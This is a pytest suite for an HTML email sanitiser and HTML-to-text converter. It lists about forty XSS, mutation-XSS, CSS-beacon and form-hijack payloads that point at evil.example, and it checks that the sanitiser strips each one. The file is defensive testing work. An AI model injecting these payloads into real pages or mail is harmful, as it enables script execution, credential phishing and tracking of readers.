"""HTML from strangers: nothing runs, nothing loads, nothing escapes its frame; and it still reads well."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nakhoda.desk.mail.plain import html_to_text, unflow
from nakhoda.desk.mail.sanitise import nesting, sanitise_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/t.gif'>",
    "<img src='//evil.example/t.gif' srcset='http://evil.example/2x 2x'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<a href='/logout'>x</a>",
    "<a href='cases/7/close'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='cid:x'>x</a>",
    "<a hx-get='/cases/7' data-hx-get='/cases/7' hx-trigger='load'>x</a>",
    "<div data-hx-post='/cases/7/close' data-hx-trigger='load'>x</div>",
    "<form action='https://evil.example'><input name=password><button formaction='//evil.example'>Go</button></form>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='x.swf'></object><embed src=x>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<div style='background:url(https://evil.example/t.gif)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='background-image:\\75rl(//evil.example)'>x</div>",
    "<table background='https://evil.example/t.gif'><tr><td background='//evil.example'>x</table>",
    "<video poster='//evil.example' src='//evil.example'></video><audio src='//evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=csrf class=btn name=x>x</p>",
    "<a href='https://ok.example' target=_top ping='https://evil.example'>x</a>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
]
_TAGS_OUT = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "base",
    "meta",
    "link",
    "svg",
    "math",
    "video",
}
_ATTRIBUTES_OUT = re.compile(
    r"on|data-|hx-|id$|class$|name$|target$|ping$|srcset$|background$|poster$|action|formaction|xlink"
)


class _Inspector(HTMLParser):
    """Collects what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _TAGS_OUT:
            self.wrong.append(tag)
        for name, value in attrs:
            text = (value or "").strip().lower()
            if _ATTRIBUTES_OUT.match(name) or "url(" in text or ("position" in text and name == "style"):
                self.wrong.append(f"{tag} {name}")
            if name == "href" and not text.startswith(("https://", "http://", "mailto:", "tel:")):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "src" and not text.startswith(("cid:", "/file/")):
                self.wrong.append(f"{tag} {name}={value}")


def _wrong_in(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_that_acts_survives(payload: str) -> None:
    assert _wrong_in(sanitise_html(payload)) == []
    assert _wrong_in(sanitise_html(f"<div><p>{payload}</p></div>", {"x": "/file/1"})) == []


def test_the_inspector_sees_what_is_wrong() -> None:
    seen = [payload for payload in PAYLOADS if _wrong_in(payload)]
    assert len(seen) > 30


@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<", ">", '"', "'", "<p ", "</", "<!--", "-->", "style=", "&#", "<td>", "</div>"]),
        max_size=6,
    )
)
def test_no_mixture_of_tricks_survives(pieces: list[str]) -> None:
    once = sanitise_html("".join(pieces))
    assert _wrong_in(once) == []
    assert sanitise_html(once) == once or _wrong_in(sanitise_html(once)) == []


def test_what_people_write_stays() -> None:
    html = '<p dir="rtl" lang="ur"><b>شکریہ</b> <a href="https://x.example/">x</a></p><ul><li>one</li></ul>'
    assert sanitise_html(html) == html.replace('/">', '/" rel="noopener noreferrer nofollow">')


def test_a_style_keeps_its_colour_and_loses_its_place() -> None:
    assert sanitise_html('<p style="color:red;position:absolute">x</p>') == '<p style="color:red">x</p>'


def test_pictures_come_only_from_the_message_itself() -> None:
    html = '<img src="cid:logo@x" alt="logo"><img src="cid:unknown">'
    assert sanitise_html(html) == html
    assert sanitise_html(html, {"logo@x": "/file/7"}) == '<img src="/file/7" alt="logo"><img>'


@pytest.mark.parametrize(
    "path", ["https://evil.example/x", "//evil.example/x", "/\\evil.example", "javascript:alert(1)", '/x" onload="y']
)
def test_a_map_can_point_only_to_our_own_paths(path: str) -> None:
    assert sanitise_html('<img src="cid:a">', {"a": path}) == "<img>"


def test_nesting_beyond_reason_is_shown_as_text_only() -> None:
    deep = "<div>" * 501 + "words" + "</div>" * 501
    assert sanitise_html(deep) == ""
    assert html_to_text(deep) == "words"
    assert nesting("<p>" * 900 + "<li>" * 900 + "<br>" * 900) == 0


READABLE: dict[str, tuple[str, str]] = {
    "paragraphs": ("<p>One</p><p>Two</p>", "One\n\nTwo"),
    "breaks": ("One<br>Two<br><br>Three", "One\nTwo\n\nThree"),
    "divisions as Gmail writes them": ("<div>One</div><div><br></div><div>Two</div>", "One\n\nTwo"),
    "a list": ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
    "a table": ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a\tb\nc"),
    "a quote": ("Yes<blockquote>Is it?<blockquote>Old</blockquote></blockquote>", "Yes\n> Is it?\n>> Old"),
    "preformatted": ("<pre>a\n  b</pre>", "a\n  b"),
    "entities": ("&lt;b&gt; &amp;amp; caf&eacute;&nbsp;&#128512;", "<b> &amp; café 😀"),
    "script and style are not words": ("<style>p{}</style><script>x()</script><title>t</title>ok", "ok"),
    "blanks collapse": ("<p>  a \n\t b  </p>", "a b"),
}


@pytest.mark.parametrize("name", READABLE)
def test_html_reads_like_what_the_sender_saw(name: str) -> None:
    html, text = READABLE[name]
    assert html_to_text(html) == text


def test_flowed_text_joins_only_lines_of_one_depth() -> None:
    assert unflow("a \n> b \n> c\nd") == "a \n> b c\nd"
    assert unflow(" From here") == "From here"
